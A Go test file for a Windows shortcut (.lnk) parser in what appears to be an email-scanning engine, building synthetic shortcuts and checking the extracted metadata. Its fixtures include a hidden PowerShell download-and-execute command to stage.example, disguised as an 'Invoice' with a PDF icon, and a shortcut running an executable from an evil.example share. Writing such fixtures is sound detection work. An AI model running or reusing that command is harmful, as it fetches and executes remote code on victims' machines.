package shortcut_test

import (
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/tqmailrules/tqmailrules/engine"
	"github.com/tqmailrules/tqmailrules/engine/unpack/shortcut"
	"github.com/tqmailrules/tqmailrules/engine/unpack/task/tasktest"
)

func read(t testing.TB, b []byte) (*engine.Part, []engine.Defect) {
	return tasktest.Read(t.Context(), "lnk", b, shortcut.Read)
}

func u16(n int) []byte { return binary.LittleEndian.AppendUint16(nil, uint16(n)) }
func u32(n int) []byte { return binary.LittleEndian.AppendUint32(nil, uint32(n)) }

func join(parts ...[]byte) (all []byte) {
	for _, p := range parts {
		all = append(all, p...)
	}
	return all
}

func wide(s string) (b []byte) {
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

func header(flags int) []byte {
	h := make([]byte, 76)
	copy(h, "L\x00\x00\x00\x01\x14\x02\x00")
	copy(h[20:], u32(flags))
	return h
}

// info is a LinkInfo with a path on a volume.
func info(path string) []byte {
	body := append([]byte(path), 0, 0)
	return join(u32(28+len(body)), u32(28), u32(1), u32(0), u32(28), u32(0), u32(28+len(path)+1), body)
}

// share is a LinkInfo with a path on a share.
func share(name, suffix string) []byte {
	network := join(u32(20+len(name)+1), u32(0), u32(20), u32(0), u32(0), append([]byte(name), 0))
	return join(u32(28+len(network)+len(suffix)+1), u32(28), u32(2), u32(0), u32(0), u32(28), u32(28+len(network)), network, append([]byte(suffix), 0))
}

func counted(s string) []byte { return join(u16(len(utf16.Encode([]rune(s)))), wide(s)) }

const script = "/c powershell -w hidden iwr https://stage.example/a.ps1 | iex"

func TestWhatAShortcutStarts(t *testing.T) {
	environment := make([]byte, 788)
	copy(environment, join(u32(788), u32(0xa0000001)))
	copy(environment[268:], wide(`%ComSpec%`))
	tests := []struct {
		name string
		in   []byte
		want map[string]string
	}{
		{
			"a command with arguments", join(header(1|2|4|16|32|64|128), u16(3), []byte("abc"), info(`C:\Windows\System32\cmd.exe`), counted("Invoice"), counted(`C:\`), counted(script), counted(`%SystemRoot%\pdf.ico`), environment, u32(0)),
			map[string]string{
				"target": `C:\Windows\System32\cmd.exe`, "description": "Invoice", "working_directory": `C:\`, "arguments": script,
				"icon": `%SystemRoot%\pdf.ico`, "environment_target": "%ComSpec%",
			},
		},
		{"a share", join(header(2|128), share(`\\evil.example\webdav`, `run.exe`), u32(0)), map[string]string{"target": `\\evil.example\webdav\run.exe`}},
		{"not in Unicode", join(header(8), u16(5), []byte("..\\\xfcx")), map[string]string{"relative_path": "..\\üx"}},
		{"nothing", join(header(0), u32(0)), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, defects := read(t, tt.in)
			if diff := cmp.Diff(tt.want, p.Metadata); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
			for k, v := range tt.want {
				if !strings.Contains(p.Text, strings.ReplaceAll(k, "_", " ")+": "+v+"\n") {
					t.Errorf("text %q", p.Text)
				}
			}
			if len(defects) > 1 || len(defects) == 1 && tt.name != "not in Unicode" {
				t.Errorf("defects %v", defects)
			}
			for n := range tt.in {
				read(t, tt.in[:n])
			}
		})
	}
	if _, defects := read(t, []byte("no shortcut")); defects[0].Code != engine.DefectUnreadable {
		t.Errorf("%v", defects)
	}
}

func FuzzRead(f *testing.F) {
	f.Add(join(header(1|2|4|32|128), u16(3), []byte("abc"), info(`C:\x`), counted("Invoice"), counted(script)))
	f.Add(join(header(2), share(`\\a\b`, "c")))
	f.Fuzz(func(t *testing.T, b []byte) { read(t, b) })
}
